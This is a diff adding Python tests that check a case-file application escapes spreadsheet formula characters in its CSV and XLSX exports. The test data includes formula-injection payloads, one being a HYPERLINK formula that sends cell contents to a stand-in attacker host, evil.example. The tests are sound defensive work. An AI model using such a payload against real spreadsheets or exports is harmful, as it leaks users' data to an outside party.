@@ -68,3 +68,33 @@ async def test_a_nul_character_in_the_query_is_refused_at_the_edge(edge, query: 
         r = await edge.get(f"{path}?{query}")
         assert r.status_code == 400 and r.headers["content-type"].startswith("application/problem+json"), r.text
         assert "caractère nul" in r.json()["detail"]
+
+
+FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(1;1)", '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")', "\t=1"]
+
+
+def test_csv_export_cells_never_start_with_a_formula_character() -> None:
+    from dossier.exports import _csv_text
+
+    for value in FORMULAS:
+        text = _csv_text(value, "text")
+        assert text == "'" + value
+    assert _csv_text("Jean Dupont", "text") == "Jean Dupont"
+    buf = io.StringIO()
+    csv.writer(buf, delimiter=";").writerow([_csv_text(v, "text") for v in FORMULAS])
+    assert all(cell[0] == "'" for cell in next(csv.reader(io.StringIO(buf.getvalue()), delimiter=";")))
+
+
+def test_xlsx_export_writes_would_be_formulas_as_text(tmp_path) -> None:  # type: ignore[no-untyped-def]
+    from dossier.exports import Column, _XlsxWriter
+    from openpyxl import load_workbook
+
+    writer = _XlsxWriter("Dossiers", [Column("Demandeur", "text", lambda r: r.name)])
+    writer.append([SimpleNamespace(name=v) for v in FORMULAS])
+    path = tmp_path / "export.xlsx"
+    writer.save(str(path))
+    sheet = next(zipfile.ZipFile(path).read(n) for n in zipfile.ZipFile(path).namelist()
+                 if n.startswith("xl/worksheets/sheet"))
+    assert b"<f>" not in sheet and b"<f " not in sheet
+    cells = [row[0] for row in load_workbook(path).active.iter_rows(min_row=2)]
+    assert [c.value for c in cells] == FORMULAS and {c.data_type for c in cells} == {"s"}
